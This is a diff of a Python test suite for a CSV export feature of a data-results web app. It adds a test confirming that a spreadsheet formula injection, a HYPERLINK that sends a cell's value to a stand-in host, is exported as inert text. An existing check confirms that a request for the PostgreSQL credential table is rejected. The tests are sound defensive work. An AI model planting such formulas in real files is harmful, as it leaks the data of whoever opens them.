@@ -4,7 +4,6 @@ states, and an end-to-end run in headless Chromium against data from the real fl
 import csv
 import io
 import os
-import socket
 import threading
 from pathlib import Path
 
@@ -21,6 +20,7 @@ from pipelines.results.formatting import brl, duration, integer
 from pipelines.results.queries import Column, ResultsRepository, UnknownTableError, filter_sql, make_engine, order_sql
 from pipelines.settings import load_settings
 from tests.conftest import query, run_flow
+from tests.netproxy import Proxy
 
 ROOT = Path(__file__).resolve().parent.parent
 QUOTE = '"{}"'.format
@@ -135,6 +135,32 @@ def test_export_streams_the_filtered_rows(filled, settings, repo):
     assert client.get("/exportar.csv?tabela=pg_catalog.pg_authid").status_code == 400
 
 
+def test_export_neutralises_formulas_and_keeps_negative_amounts(filled, settings, repo):
+    """A formula in a text column of real data is exported as text ('=...), a negative
+    numeric amount as the number it is."""
+    conn = filled["conn"]
+    formula = '=HYPERLINK("http://exemplo.invalido/roubo?c="&B2,"Ver detalhes")'
+    [(worker, name, cost)] = query(conn, "SELECT id_terceirizado, nome_orgao, valor_custo_mensal "
+                                         "FROM staging.transformed ORDER BY id_terceirizado LIMIT 1")
+    with conn.cursor() as cursor:
+        cursor.execute("UPDATE staging.transformed SET nome_orgao = %s, valor_custo_mensal = -12.5 "
+                       "WHERE id_terceirizado = %s", (formula, worker))
+    try:
+        client = create_app(settings, repo).server.test_client()
+        response = client.get(views.export_href("staging.transformed", None, {
+            "id_terceirizado": {"filterType": "text", "type": "equals", "filter": str(worker)}}))
+        assert response.status_code == 200
+        header, row = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
+        cells = dict(zip(header, row))
+        assert cells["nome_orgao"] == "'" + formula
+        assert cells["valor_custo_mensal"] == "-12.50"  # numeric(…, 2): a number, not prefixed
+        assert cells["ano"] == "2024" and cells["id_terceirizado"] == str(worker)
+    finally:
+        with conn.cursor() as cursor:
+            cursor.execute("UPDATE staging.transformed SET nome_orgao = %s, valor_custo_mensal = %s "
+                           "WHERE id_terceirizado = %s", (name, cost, worker))
+
+
 def test_runs_and_logs_views(filled, repo):
     runs = views.runs_rows(repo.runs())
     by_state = {}
@@ -189,55 +215,6 @@ def test_empty_database_shows_the_empty_state(settings):
         with admin.cursor() as cursor:
             cursor.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(name)))
         admin.close()
-
-
-class Proxy:
-    """A TCP forwarder to PostgreSQL that the test can switch off and on."""
-
-    def __init__(self, target_port):
-        self.target_port = target_port
-        self.listener = socket.socket()
-        self.listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-        self.listener.bind(("127.0.0.1", 0))
-        self.port = self.listener.getsockname()[1]
-        self.listener.listen(16)
-        self.enabled = True
-        self.connections = []
-        threading.Thread(target=self._accept, daemon=True).start()
-
-    def _accept(self):
-        while True:
-            client, _ = self.listener.accept()
-            if not self.enabled:
-                client.close()
-                continue
-            upstream = socket.create_connection(("127.0.0.1", self.target_port))
-            self.connections += [client, upstream]
-            for a, b in ((client, upstream), (upstream, client)):
-                threading.Thread(target=self._pipe, args=(a, b), daemon=True).start()
-
-    @staticmethod
-    def _pipe(source, target):
-        try:
-            while data := source.recv(65536):
-                target.sendall(data)
-        except OSError:
-            pass
-        finally:
-            for s in (source, target):
-                try:
-                    s.close()
-                except OSError:
-                    pass
-
-    def cut(self):
-        self.enabled = False
-        for s in self.connections:
-            try:
-                s.shutdown(socket.SHUT_RDWR)
-            except OSError:
-                pass
-        self.connections.clear()
 
 
 def test_database_down_banner_and_recovery(filled, settings):
